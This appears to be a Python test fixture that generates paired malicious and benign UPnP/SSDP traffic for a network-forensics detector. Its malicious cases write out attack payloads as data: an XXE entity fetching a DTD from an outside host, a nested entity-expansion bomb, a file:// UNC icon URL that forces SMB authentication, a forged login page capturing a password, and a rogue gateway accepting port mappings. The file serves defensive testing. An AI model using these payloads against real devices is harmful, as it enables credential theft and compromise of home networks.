"""Forged devices, and descriptions made to mislead or to hurt who reads them."""

from __future__ import annotations

from tests.capture.conversation import response as served
from tests.corpus.recipe import Expected, Pair, pair
from tests.corpus.saying import (
    CLIENT,
    IGD,
    LAMP,
    OUTSIDE,
    ROGUE,
    announce,
    ask,
    description,
    fetch,
    leave,
    reply,
)
from tests.corpus.wire import ROUTER, Wire
from tests.forensics.descriptions import device_xml, root_xml
from tests.forensics.packets import UDN
from tests.forensics.rules.mapping_pieces import mapping
from tests.forensics.rules.traffic import OK, answer, get, soap

__all__ = ["PAIRS", "declared"]

DTD = f"http://{OUTSIDE}/x.dtd"
KINDS = ("Lamp", "Printer", "Camera", "Thermostat")
OTHER_UDN = "uuid:7d6f0f00-1111-4222-8333-444455556666"
ADD = soap("AddPortMapping", mapping())


@pair("location-mismatch", "the host of LOCATION: of the Internet, the sender", "vlan")
def mismatch(wire: Wire, bad: bool) -> list[Expected]:
    host = OUTSIDE if bad else ROGUE
    wire.arp(CLIENT, ROGUE)
    told = announce(wire, ROGUE, location=f"http://{host}:5000/root.xml")
    got = fetch(wire, server=host)
    return [Expected("HIGH", "effect", ROGUE, [told, *got.opening, *got.heads])]


@pair("location-scheme", "the scheme of LOCATION: intent, http")
def scheme(wire: Wire, bad: bool) -> list[Expected]:
    url = "intent://example#Intent;scheme=market;end" if bad else f"http://{ROGUE}:80/root.xml"
    ask(wire, CLIENT, "upnp:rootdevice")
    frame = reply(wire, ROGUE, location=url)
    return [Expected("HIGH", "attempted", ROGUE, [frame])]


@pair("evil-ssdp-responder", "the kinds of devices that one UUID answers for: four, one")
def responder(wire: Wire, bad: bool) -> list[Expected]:
    frames = []
    for kind in KINDS:
        st = f"urn:schemas-upnp-org:device:{kind}:1"
        ask(wire, CLIENT, st)
        if bad or kind == KINDS[0]:
            frames.append(reply(wire, ROGUE, st=st))
        wire.wait(1)
    got = fetch(wire, server=ROGUE)
    return [Expected("HIGH", "effect", ROGUE, [*frames, *got.opening])]


@pair("ssdp-byebye-spoof", "who says byebye for a device: another host, the device")
def byebye_spoof(wire: Wire, bad: bool) -> list[Expected]:
    wire.arp(LAMP, ROGUE)
    first = announce(wire, LAMP)
    wire.wait(5)
    gone = leave(wire, ROGUE if bad else LAMP)
    wire.wait(5)
    again = announce(wire, LAMP)
    return [Expected("MEDIUM", "attempted", LAMP, [first, gone, again])]


@pair("udn-conflict", "the UUID of a second device: of the first, its own")
def udn_conflict(wire: Wire, bad: bool) -> list[Expected]:
    frames = []
    for _ in range(2):
        frames.append(announce(wire, LAMP))
        wire.wait(10)
        frames.append(announce(wire, ROGUE, udn=UDN if bad else OTHER_UDN))
        wire.wait(10)
    return [Expected("MEDIUM", "observed", UDN, frames)]


@pair("rogue-igd", "what a host that is no router announces: a gateway, a lamp")
def rogue_igd(wire: Wire, bad: bool) -> list[Expected]:
    wire.dhcp(CLIENT)
    wire.arp(CLIENT, ROGUE, ROUTER)
    ask(wire, CLIENT, IGD)
    false = reply(
        wire, ROGUE, st=IGD if bad else "urn:schemas-upnp-org:device:Lamp:1", udn=OTHER_UDN
    )
    true = reply(wire, ROUTER, st=IGD)
    server = ROGUE if bad else ROUTER
    call = wire.http(ADD, answer("AddPortMapping"), server=server)
    return [Expected("HIGH", "effect", ROGUE, [false, true, *call.both])]


@pair("phish-presentation", "whose login page it is: a forged device's, a device's")
def phishing(wire: Wire, bad: bool) -> list[Expected]:
    ask(wire, CLIENT, "ssdp:all")
    kinds = KINDS if bad else KINDS[:1]
    forged = [reply(wire, ROGUE, st=f"urn:schemas-upnp-org:device:{one}:1") for one in kinds]
    got = fetch(wire, server=ROGUE)
    page = b"<html><form method=post><input name=user><input type=password name=pass></form></html>"
    wire.http(get("/present.html", host=ROGUE), served(page), server=ROGUE, port=5000)
    form = b"user=someone&password=upnpscapy-test"
    head = (
        f"POST /do_login.html HTTP/1.1\r\nHost: {ROGUE}\r\n"
        f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n\r\n"
    )
    sent = wire.http(head.encode() + form, OK, server=ROGUE)
    return [
        Expected("HIGH", "accepted", ROGUE, sent.both),
        Expected(
            "HIGH", "effect", ROGUE,
            [*forged, *got.opening], "evil-ssdp-responder",
        ),
    ]  # fmt: skip


@pair("forced-auth", "a path in a description: to a share of another host, to a page")
def forced_auth(wire: Wire, bad: bool) -> list[Expected]:
    announce(wire, ROGUE)
    icon = f"file://///{ROGUE}/share/icon.png" if bad else "/share/icon.png"
    body = root_xml(device_xml(UDN))
    body = body.replace(b"<serviceList>", f"<iconList><icon><url>{icon}</url></icon></iconList>"
                        "<serviceList>".encode())  # fmt: skip
    got = fetch(wire, body, server=ROGUE)
    smb = wire.connect(CLIENT, ROGUE, 445)
    return [Expected("HIGH", "effect", ROGUE, [*got.heads, *smb])]


@pair("description-inconsistent", "the host of controlURL: of the Internet, the device")
def inconsistent(wire: Wire, bad: bool) -> list[Expected]:
    announce(wire, ROGUE)
    host = OUTSIDE if bad else ROGUE
    got = fetch(wire, description(control=f"http://{host}:5000/ctl"), server=ROGUE)
    call = wire.connect(CLIENT, host, 5000)
    return [Expected("MEDIUM", "effect", ROGUE, [*got.heads, *call])]


@pair("description-bomb", "the length of a friendlyName: 4097, 64 characters")
def bomb(wire: Wire, bad: bool) -> list[Expected]:
    announce(wire, ROGUE)
    got = fetch(wire, description(name="A" * (4097 if bad else 64)), server=ROGUE)
    return [Expected("MEDIUM", "observed", ROGUE, got.heads)]


def declared(declarations: str, name: str) -> bytes:
    """A description with declarations before its root."""
    head, _, rest = description(name=name).partition(b"?>")
    return head + b"?>" + declarations.encode() + rest


@pair("xxe", "an external entity, none")
def xxe(wire: Wire, bad: bool) -> list[Expected]:
    announce(wire, ROGUE)
    doctype = f'<!DOCTYPE root [<!ENTITY x SYSTEM "{DTD}">]>' if bad else ""
    got = fetch(wire, declared(doctype, "&x;" if bad else "Lamp"), server=ROGUE)
    host = OUTSIDE if bad else ROGUE
    asked = wire.http(get("/x.dtd", host=host), OK, server=host, port=80)
    return [Expected("CRITICAL", "effect", ROGUE, [*got.heads, *asked.opening, *asked.request])]


@pair("entity-expansion", "whether entities refer to entities", "cooked")
def expansion(wire: Wire, bad: bool) -> list[Expected]:
    announce(wire, ROGUE)
    before, lines = "lol", []
    for number in range(6):
        lines.append(f'<!ENTITY e{number} "{before}">')
        before = f"&e{number};" * 10 if bad else "lol"
    got = fetch(wire, declared(f"<!DOCTYPE root [{''.join(lines)}]>", "&e5;"), server=ROGUE)
    return [Expected("HIGH", "attempted", ROGUE, got.heads)]


PAIRS: tuple[Pair, ...] = tuple(one for one in globals().values() if isinstance(one, Pair))
